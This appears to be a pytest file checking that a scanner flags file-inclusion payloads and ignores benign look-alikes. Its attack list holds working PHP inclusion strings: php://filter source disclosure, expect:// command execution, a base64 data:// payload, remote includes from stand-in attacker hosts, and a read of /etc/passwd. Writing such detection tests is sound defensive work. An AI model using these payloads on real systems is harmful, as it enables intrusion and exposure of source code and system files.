from __future__ import annotations

import pytest

ATTACKS = [
    "php://filter/convert.base64-encode/resource=index.php",
    "expect://id",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "http://203.0.113.7/shell.txt?",
    "file:///etc/passwd",
    "phar://upload/x.jpg",
    "https://evil.example/x.php?",
]
BENIGN = ["hello", "data science", "php is a language", "/files/report.pdf"]


@pytest.mark.parametrize("value", ATTACKS)
def test_detects_file_inclusion(scan, value):
    assert "file_inclusion" in scan(value)


@pytest.mark.parametrize("value", BENIGN)
def test_ignores_benign_look_alikes(scan, value):
    assert "file_inclusion" not in scan(value)
